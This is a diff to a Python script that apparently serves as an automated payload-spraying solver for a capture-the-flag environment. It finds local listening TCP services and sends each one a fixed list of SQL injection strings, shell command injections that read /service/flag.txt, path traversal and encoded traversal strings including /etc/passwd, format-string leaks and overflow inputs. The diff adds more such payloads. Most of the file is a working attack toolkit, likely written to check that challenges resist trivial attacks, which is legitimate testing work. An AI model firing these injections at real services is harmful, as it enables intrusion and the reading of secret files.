@@ -4,7 +4,8 @@ It never reads what the challenge hands out. It finds the listening TCP sockets 
 table, tells HTTP from line protocols, and throws a fixed list of canned payloads at each: long
 strings, format strings, SQL and command injection, boundary integers, ``../`` encodings. It also
 walks a service's banner: every command word or menu number it offers is sent with each payload,
-and links and JSON fields of HTTP index pages are filled with them. It prints every flag it sees, in clear or in leaked stack words (``%p`` output, little-endian).
+and links and JSON fields of HTTP index pages are filled with them. It prints every flag it sees, in
+clear or in leaked stack words (``%p`` output, little-endian).
 """
 
 from __future__ import annotations
@@ -16,11 +17,15 @@ import socket
 import sys
 import time
 from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
 
 FLAG = re.compile(rb"bastion\{[0-9a-f]{32}\}")
 WORD = re.compile(rb"0x[0-9a-f]{1,16}|\(nil\)")
-READ_SECONDS = 5.0
-WORKERS = 8
+FIRST_BYTE_SECONDS = 5.0  # generous: a loaded machine starts a service's interpreter slowly
+IDLE_SECONDS = 3.0  # a reply is over once the service closes or stays quiet this long
+BANNER_SECONDS = 3.0  # a service that has said nothing by then has no banner
+TOTAL_SECONDS = 20.0
+WORKERS = 6
 
 OVERFLOWS = [b"A" * n for n in (17, 33, 65, 129, 257, 1025, 4097)] + [b"\xff" * 64, b"\x00" * 32]
 FORMATS = [
@@ -39,10 +44,14 @@ SQL = [
     b"admin' --",
     b"admin'#",
     b"admin' OR '1'='1",
-    b"\" OR \"1\"=\"1",
+    b'" OR "1"="1',
     b"') OR ('1'='1",
     b"1 OR 1=1",
     b"' UNION SELECT 1,2,3 --",
+    b"admin'/*",
+    b"' OR ''='",
+    b"1' OR '1'='1' LIMIT 1 --",
+    b"'; SELECT * FROM users --",
 ]
 COMMANDS = [
     b"; cat /service/flag.txt",
@@ -56,6 +65,9 @@ COMMANDS = [
     b"127.0.0.1 $(cat /service/*)",
     b"\ncat /service/flag.txt",
     b"{{7*7}}${7*7}",
+    b"${IFS}cat${IFS}/service/flag.txt",
+    b"a%0acat%20/service/flag.txt",
+    b"|| cat /service/* #",
 ]
 INTEGERS = [
     str(n).encode()
@@ -95,8 +107,12 @@ TRAVERSALS = [
     b"..;/flag.txt",
     b"%2fservice%2fflag.txt",
     b"/etc/passwd",
+    b"..%5cflag.txt",
+    b"%252e%252e%252fflag.txt",
+    b"..%c0%afflag.txt",
+    b"file:///service/flag.txt",
 ]
-WORDS = [b"", b"admin", b"root", b"guest", b"flag", b"help", b"?", b"null", b"true", b"{}", b"[]", b"-"]
+WORDS = [b"", b"admin", b"root", b"guest", b"flag", b"help", b"?", b"null", b"true", b"{}", b"[]", b"-", b"*", b"%00"]
 PAYLOADS = OVERFLOWS + FORMATS + SQL + COMMANDS + INTEGERS + TRAVERSALS + WORDS
 WALK = OVERFLOWS[:4] + FORMATS[:5] + SQL[:4] + COMMANDS[:6] + INTEGERS[::3] + TRAVERSALS[:5] + WORDS[:5]
 PARAMS = ["q", "id", "file", "name", "user", "username", "password", "path", "url", "host", "token", "page"]
@@ -105,27 +121,54 @@ PARAMS = ["q", "id", "file", "name", "user", "username", "password", "path", "ur
 def listening() -> list[tuple[str, int]]:
     """Listening TCP sockets of this network namespace (IPv4), from /proc/net/tcp."""
     found = []
-    with open("/proc/net/tcp") as f:
-        for line in f.read().splitlines()[1:]:
-            fields = line.split()
-            if len(fields) > 3 and fields[3] == "0A":
-                ip, port = fields[1].split(":")
-                address = ".".join(str(int(ip[i : i + 2], 16)) for i in (6, 4, 2, 0))
-                found.append(("127.0.0.1" if address == "0.0.0.0" else address, int(port, 16)))  # noqa: S104
+    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
+        fields = line.split()
+        if len(fields) > 3 and fields[3] == "0A":
+            ip, port = fields[1].split(":")
+            address = ".".join(str(int(ip[i : i + 2], 16)) for i in (6, 4, 2, 0))
+            found.append(("127.0.0.1" if address == "0.0.0.0" else address, int(port, 16)))  # noqa: S104
     return sorted(set(found))
 
 
-def exchange(address: tuple[str, int], data: bytes, *, half_close: bool = True) -> bytes:
-    """Connect, send ``data``, read until the peer closes or ``READ_SECONDS`` pass."""
+def exchange(address: tuple[str, int], data: bytes) -> bytes:
+    """Connect, send ``data`` and read until the peer closes, or stays quiet for ``IDLE_SECONDS`` once
+    it has said something. Our side is closed once the service has answered (so it is up: closing
+    earlier can cut off a slow starter), or after ``FIRST_BYTE_SECONDS`` of silence (perhaps it reads
+    to the end of its input first)."""
+    out, open_for_writing = b"", True
+    try:
+        with socket.create_connection(address, timeout=FIRST_BYTE_SECONDS) as s:
+            s.sendall(data)
+            deadline = time.monotonic() + TOTAL_SECONDS
+            while time.monotonic() < deadline:
+                try:
+                    chunk = s.recv(65536)
+                except TimeoutError:
+                    if out or not open_for_writing:
+                        break
+                    s.shutdown(socket.SHUT_WR)
+                    open_for_writing = False
+                    continue
+                if not chunk:
+                    break
+                if open_for_writing:
+                    s.shutdown(socket.SHUT_WR)
+                    open_for_writing = False
+                out += chunk
+                s.settimeout(IDLE_SECONDS)
+    except OSError:
+        pass
+    return out
+
+
+def banner(address: tuple[str, int]) -> bytes:
+    """What a service says on connecting, before any input (``b""`` if it waits for us first)."""
     out = b""
     try:
-        with socket.create_connection(address, timeout=READ_SECONDS) as s:
-            s.sendall(data)
-            if half_close:
-                s.shutdown(socket.SHUT_WR)
-            deadline = time.monotonic() + READ_SECONDS
-            while time.monotonic() < deadline and (chunk := s.recv(65536)):
+        with socket.create_connection(address, timeout=BANNER_SECONDS) as s:
+            while chunk := s.recv(65536):
                 out += chunk
+                s.settimeout(1.0)
     except OSError:
         pass
     return out
@@ -166,7 +209,7 @@ def http_paths(index: str) -> tuple[set[str], set[str]]:
 
 def http_request(address: tuple[str, int], method: str, path: str, body: bytes | None = None) -> bytes:
     try:
-        conn = http.client.HTTPConnection(*address, timeout=READ_SECONDS)
+        conn = http.client.HTTPConnection(*address, timeout=FIRST_BYTE_SECONDS)
         headers = {"Content-Type": "application/json"} if body is not None else {}
         conn.request(method, path, body=body, headers=headers)
         response = conn.getresponse()
@@ -180,8 +223,8 @@ def http_jobs(address: tuple[str, int], index: str) -> list[tuple[str, str, byte
     jobs: list[tuple[str, str, bytes | None]] = []
     for t in TRAVERSALS:
         jobs += [("GET", "/" + t.decode(), None), ("GET", "/static/" + t.decode(), None)]
-    for path in sorted(paths)[:12]:
-        for p in WALK:
+    for path in sorted(paths)[:8]:
+        for p in WALK[::2]:
             text = p.decode(errors="replace")
             query = "&".join(f"{f}={_quote(text)}" for f in sorted(fields)[:8])
             jobs.append(("GET", f"{path}?{query}", None))
@@ -200,7 +243,7 @@ def flags_in(output: bytes) -> set[bytes]:
 
 
 def spray(address: tuple[str, int], pool: ThreadPoolExecutor) -> set[bytes]:
-    first = exchange(address, b"", half_close=False)
+    first = banner(address)
     probe = exchange(address, b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
     if probe.startswith(b"HTTP/"):
         index = http_request(address, "GET", "/").decode(errors="replace")
@@ -211,10 +254,10 @@ def spray(address: tuple[str, int], pool: ThreadPoolExecutor) -> set[bytes]:
 
 
 def main() -> None:
-    flags: set[bytes] = set()
-    with ThreadPoolExecutor(WORKERS) as pool:
-        for address in listening():
-            flags |= spray(address, pool)
+    addresses = listening()
+    with ThreadPoolExecutor(WORKERS) as pool, ThreadPoolExecutor(max(1, len(addresses))) as per_address:
+        found_each = per_address.map(lambda address: spray(address, pool), addresses)
+        flags = set().union(*found_each)
     for found in sorted(flags):
         sys.stdout.write(found.decode() + "\n")
 
